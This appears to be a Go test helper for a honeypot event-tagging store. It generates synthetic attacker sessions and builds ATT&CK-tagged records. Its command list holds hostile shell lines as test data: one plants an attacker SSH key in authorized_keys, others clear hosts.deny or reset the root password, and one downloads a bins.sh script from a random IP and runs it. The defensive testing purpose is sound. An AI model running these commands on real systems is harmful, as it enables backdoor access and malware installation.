package kv_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/kv"
)

// generator makes events as repetitive as a honeypot's log: sessions of a few to a few
// dozen commands from a small repertoire, some with their own password or host.
type generator struct {
	rnd     *rand.Rand
	now     time.Time
	pace    time.Duration // mean time between two commands
	session string
	ip      string
	left    int
	unique  bool // every command differs from every other
	n       int
}

func newGenerator(seed uint64) *generator {
	return &generator{rnd: rand.New(rand.NewPCG(seed, 1)), now: time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC), pace: 4 * time.Second}
}

var repertoire = []string{
	"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
	"ls -lh $(which ls)", "which ls", "crontab -l", "w", "uname -m", "cat /proc/cpuinfo | grep model | grep name | wc -l",
	"top", "uname", "whoami", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "/ip cloud print",
	"ifconfig", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'", "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*",
	"locate D877F783D5D3EF8Cs", "echo Hi | cat -n", "cd ~; chattr -ia .ssh; lockr -ia .ssh",
	"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
	"rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
	"enable", "system", "shell", "sh", "/bin/busybox ABCDE", "exit",
}

func (g *generator) next() ttpcron.Event {
	if g.left == 0 {
		g.left = 1 + g.rnd.IntN(24)
		g.session = fmt.Sprintf("%012x", g.rnd.Uint64()>>16)
		if g.ip == "" || g.rnd.IntN(3) > 0 {
			g.ip = fmt.Sprintf("%d.%d.%d.%d", 1+g.rnd.IntN(222), g.rnd.IntN(256), g.rnd.IntN(256), g.rnd.IntN(256))
		}
	}
	g.left--
	g.n++
	g.now = g.now.Add(time.Duration(g.rnd.ExpFloat64() * float64(g.pace))).Truncate(time.Microsecond)
	text := repertoire[g.rnd.IntN(len(repertoire))]
	switch {
	case g.unique:
		text = fmt.Sprintf("%s; echo %x%x", text, g.rnd.Uint64(), g.n)
	case g.rnd.IntN(12) == 0:
		text = fmt.Sprintf("echo \"root:%x\"|chpasswd|bash", g.rnd.Uint64())
	case g.rnd.IntN(30) == 0:
		text = fmt.Sprintf("cd /tmp; wget http://%d.%d.%d.%d/bins.sh; chmod 777 bins.sh; sh bins.sh", g.rnd.IntN(256), g.rnd.IntN(256), g.rnd.IntN(256), g.rnd.IntN(256))
	}
	return ttpcron.Event{
		Kind: ttpcron.Command, Time: g.now, AttackerIP: g.ip, SessionID: g.session, DeckyID: "sensor-1",
		Payload: ttpcron.TextPayload("command_text", text),
	}
}

func (g *generator) events(n int) []ttpcron.Event {
	out := make([]ttpcron.Event, n)
	for i := range out {
		out[i] = g.next()
	}
	return out
}

// tagOf makes the k-th tag of a stored event.
func tagOf(e *ttpcron.Event, k int) ttpcron.Tag {
	uuid, _ := e.Attacker()
	text, _ := e.Payload.Text("command_text")
	technique := [...]string{"T1082", "T1059.004", "T1105", "T1098.004", "T1070"}[k%5]
	t := ttpcron.Tag{
		Claim: ttpcron.Claim{
			RuleID: fmt.Sprintf("R%04d", k), RuleVersion: 1, Tactic: [...]string{"TA0007", "TA0002", "TA0011", "TA0003", "TA0005"}[k%5],
			TechniqueID: technique[:5], Confidence: 0.5 + float64(k%5)/10, AttackRelease: "enterprise-v18.1",
			MitreURL: "https://attack.mitre.org/techniques/" + technique[:5],
		},
		SourceKind: e.Kind, SourceID: e.SourceID(), AttackerUUID: uuid, AttackerIP: e.AttackerIP, IdentityUUID: e.IdentityUUID,
		SessionID: e.SessionID, DeckyID: e.DeckyID, Vantage: e.Vantage, Seq: e.Seq,
		CreatedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), EventTime: e.Time,
	}
	if len(technique) > 5 {
		t.SubTechniqueID = technique
	}
	t.Level = [...]ttpcron.Level{0, ttpcron.LevelInformational, ttpcron.LevelHigh, ttpcron.LevelLow, ttpcron.LevelCritical}[k%5]
	t.Match = ttpcron.Match{Shows: "command_text\x00"}
	switch k % 4 {
	case 1:
		t.Match.Start, t.Match.End = len(text)/3, len(text)/2
	case 2:
		t.Match.Literal = "decoded"
	case 3:
		t.Match = ttpcron.Match{Shows: t.Match.Shows, Evidence: json.RawMessage(`{"metric":"m"}`)}
	}
	t.Evidence = ttpcron.AppendEvidence(nil, e, &t.Match)
	t.SetText(e)
	if e.Seq == 0 {
		t.Match = ttpcron.Match{}
	}
	return t
}

// findingOf returns the tag of a finding in an event's session and hour.
func findingOf(e *ttpcron.Event, k int) ttpcron.Tag {
	group := []ttpcron.GroupField{{Name: "attacker_ip", From: "attacker_ip", Optional: true}, {Name: "attacker_uuid", From: "attacker_uuid", Optional: true}, {Name: "session_id", From: "session_id", Optional: true}}
	packed, _ := ttpcron.NewStream("B1", e.Kind, group, nil, [16]byte{}).AppendGroup(nil, e, nil)
	names := []string{"attacker_ip", "attacker_uuid", "session_id"}
	t := ttpcron.NewSubject(ttpcron.Group(packed), names).Tag(ttpcron.NewTerms("event_count", fmt.Sprint("gte ", 5+k%2), []string{"x"}[:k%2], names, time.Hour), ttpcron.Slot(e.Time, time.Hour))
	t.Claim = ttpcron.Claim{RuleID: fmt.Sprint("C", k%3), RuleVersion: 1, Tactic: "TA0006", TechniqueID: "T1110", Confidence: 0.5 + float64(k%5)/10, AttackRelease: "enterprise-v18.1"}
	t.Level = [...]ttpcron.Level{ttpcron.LevelHigh, ttpcron.LevelLow}[k%2]
	t.CreatedAt = time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC)
	t.Evidence = t.Finding.AppendEvidence(nil)
	t.SetText(nil)
	return t
}

// otherwise changes what a rule may change about its tag without changing the UUID.
func otherwise(t *ttpcron.Tag, e *ttpcron.Event, n int) {
	switch n % 3 {
	case 0:
		t.Confidence = 0.35
	case 1:
		t.Level, t.Tactic = ttpcron.LevelHigh, "TA0040"
	case 2:
		t.Match = ttpcron.Match{Shows: "uid\x00", Literal: "other"}
		t.Evidence = ttpcron.AppendEvidence(nil, e, &t.Match)
	}
}

// known counts the distinct tags among those given that a store has.
func known(db *kv.DB, tags []ttpcron.Tag) (int, error) {
	done, err := db.Preview(context.Background(), ttpcron.Commit{Tags: tags})
	distinct := map[ttpcron.UUID]bool{}
	for i := range tags {
		distinct[tags[i].UUID()] = true
	}
	return len(distinct) - done.Inserted, err
}
